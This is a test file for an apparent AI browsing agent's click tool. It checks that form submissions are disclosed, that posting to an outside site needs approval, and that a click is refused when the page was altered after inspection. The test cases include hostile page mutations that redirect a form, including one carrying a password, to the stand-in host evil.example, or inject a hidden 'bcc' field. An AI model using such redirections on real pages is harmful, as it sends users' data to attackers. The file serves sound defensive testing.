import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Bench, createBench } from '../../support/page-bench.ts';
import { outlineOf, refIn } from '../../support/page-words.ts';
import { weigh } from '../../support/weigh.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await createBench();
});
afterAll(() => bench.close());

const FORM = `<form id="f" action="/take"><label>Note <input name="note"></label>
  <label>Password <input type="password" value="hunter2"></label><button>Help</button></form>`;

/** A form whose field "Note" the run has filled, the ref of its button, and what pressing that would send. */
async function filled(html = FORM) {
  const world = await bench.open(html);
  const note = refIn(outlineOf(await world.tool('snapshot')), 'textbox "Note"');
  await world.tool('fill', { ref: note, text: 'Between us' });
  const ref = refIn(outlineOf(await world.tool('snapshot')), 'button "Help"');
  const { control } = await world.look('click', { ref });
  const { to = '', fields = {} } = control?.sends ?? {};
  const sent: string[] = [];
  await world.page.route(/\/take|evil\.example/, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ body: 'Taken' });
  });
  return { ...world, ref, to, fields, sent, expected: { press: 'Help', url: to, ...fields } };
}

test('tells where a form leads and what stands in it, but for what is never read', async () => {
  const { page, to, fields } = await filled();
  expect([to, fields]).toEqual([
    new URL('/take', page.url()).href,
    { Note: 'Between us', Password: 'filled, and not shown' },
  ]);
});

test('says in the question that a form leads to another site', async () => {
  const world = await filled(FORM.replace('/take', 'https://evil.example/take'));
  const verdict = await weigh(world, 'click', { ref: world.ref });
  expect(verdict).toMatchObject({ kind: 'ask', scopes: ['once'] });
  expect(verdict.kind === 'ask' && verdict.reasons.join(' ')).toContain('that form leads to evil.example');
});

test('presses what is as the person saw it', async () => {
  const { tool, ref, expected, sent } = await filled();
  // The page goes away with the form, and its answer with the page.
  await tool('click', { ref, expect: expected }).catch(() => undefined);
  await expect.poll(() => sent.length).toBe(1);
});

test.each([
  ['where it leads', () => Object.assign(document.forms[0] ?? {}, { action: 'https://evil.example/take' })],
  ['what stands in it', () => Object.assign(document.querySelector('input') ?? {}, { value: 'All of it' })],
  [
    'what belongs to it',
    () => document.body.insertAdjacentHTML('beforeend', '<input form="f" name="bcc" value="eve">'),
  ],
  ['its button', () => document.querySelector('button')?.setAttribute('formaction', 'https://evil.example/take')],
])('presses nothing once the page has changed %s after the person saw it', async (_, change) => {
  const { page, tool, ref, expected, sent } = await filled();
  await page.evaluate(change as () => void);
  expect(await tool('click', { ref, expect: expected })).toMatchObject({
    kind: 'failed',
    message: expect.stringContaining('changed since it was looked at'),
  });
  expect(sent).toEqual([]);
});
